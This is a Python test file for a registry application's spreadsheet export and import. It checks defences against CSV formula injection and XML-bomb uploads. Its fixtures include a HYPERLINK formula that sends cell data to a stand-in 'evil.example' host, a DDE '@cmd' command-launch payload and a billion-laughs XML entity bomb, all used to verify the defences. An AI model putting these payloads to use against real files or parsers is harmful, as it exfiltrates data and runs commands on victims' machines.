"""Exports never hand a spreadsheet a formula typed by a user (CSV/formula injection).

A system, party or risk named `=HYPERLINK(...)` would run as a formula in the Excel of whoever opens
an export. CSV cells are prefixed with an apostrophe; XLSX cells are typed text. An exported CSV
re-imports with its original values.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kzai.core.roles import Role
from kzai.core.spreadsheets import csv_cell, imported_cell
from registry import transfer
from registry.models import AISystem
from tests.factories import AISystemFactory, RiskFactory

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_are_neutralised_and_restored(value):
    assert csv_cell(value) == "'" + value
    assert imported_cell(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["Credit scoring", "", "'quoted", 12, None, "a=b"])
def test_plain_cells_are_unchanged(value):
    assert csv_cell(value) == value


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_system_export_neutralises_formulas(org, make_member, web_for):
    AISystemFactory(organization=org, name=PAYLOAD, business_unit="-2+3")
    web = web_for(make_member(Role.OFFICER))
    rows = _csv_rows(web.get(reverse("registry:system_export")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOAD in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    xlsx = _xlsx_cells(web.get(reverse("registry:system_export") + "?format=xlsx"))
    named = [cell for cell in xlsx if cell.value == PAYLOAD]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not any(cell.data_type == "f" for cell in xlsx)


def test_exported_csv_reimports_with_the_original_values(org, other_org, make_member, web_for):
    AISystemFactory(organization=org, code="EVIL-1", name=PAYLOAD)
    web = web_for(make_member(Role.OFFICER))
    content = b"".join(web.get(reverse("registry:system_export")).streaming_content)
    result = transfer.import_systems(organization=other_org, filename="x.csv", content=content, dry_run=False)
    assert result.ok, result.as_dict()["rows"]
    assert AISystem.objects.get(organization=other_org, code="EVIL-1").name == PAYLOAD


def test_risk_export_neutralises_formulas(org, make_member, web_for):
    RiskFactory(system=AISystemFactory(organization=org), title="@cmd|' /C calc'!A0")
    web = web_for(make_member(Role.OFFICER))
    rows = _csv_rows(web.get(reverse("risk:register_risk_export")))
    assert "'@cmd|' /C calc'!A0" in rows[1]
    xlsx = _xlsx_cells(web.get(reverse("risk:register_risk_export") + "?format=xlsx"))
    assert not any(cell.data_type == "f" for cell in xlsx)
    assert any(cell.value == "@cmd|' /C calc'!A0" and cell.data_type == "s" for cell in xlsx)


def test_names_with_quotes_and_commas_survive_the_round_trip(org, other_org, make_member, web_for):
    AISystemFactory(organization=org, code="QUOTED-1", name='Скоринг ТОО "Алма, Ата"', business_unit="")
    web = web_for(make_member(Role.OFFICER))
    content = b"".join(web.get(reverse("registry:system_export")).streaming_content)
    result = transfer.import_systems(organization=other_org, filename="x.csv", content=content, dry_run=False)
    assert result.ok, result.as_dict()["rows"]
    assert AISystem.objects.get(organization=other_org, code="QUOTED-1").name == 'Скоринг ТОО "Алма, Ата"'


def test_uploaded_xlsx_is_parsed_with_defusedxml():
    # openpyxl guards against XML bombs and external entities only when defusedxml is installed.
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_an_xml_bomb_in_an_xlsx_is_refused(org):
    import zipfile

    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol3;</workbook>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", bomb)
        archive.writestr("xl/workbook.xml", bomb)
    with pytest.raises(transfer.ImportFileError):
        transfer.import_systems(
            organization=org, filename="bomb.xlsx", content=buffer.getvalue(), dry_run=True
        )
    assert not AISystem.objects.exists()
